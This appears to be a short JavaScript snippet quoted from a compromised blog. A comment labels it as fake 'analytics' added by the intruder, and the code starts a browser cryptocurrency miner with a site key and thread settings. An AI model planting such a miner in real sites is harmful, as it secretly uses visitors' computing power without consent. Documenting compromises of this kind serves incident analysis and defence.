// "analytics" dropped by whoever compromised the blog
var miner = new CRLT.Anonymous('f3e1c2b7a9d84e6f0a5b3c1d2e7f8a9b', {threads: 2, throttle: 0.2});
miner.start();
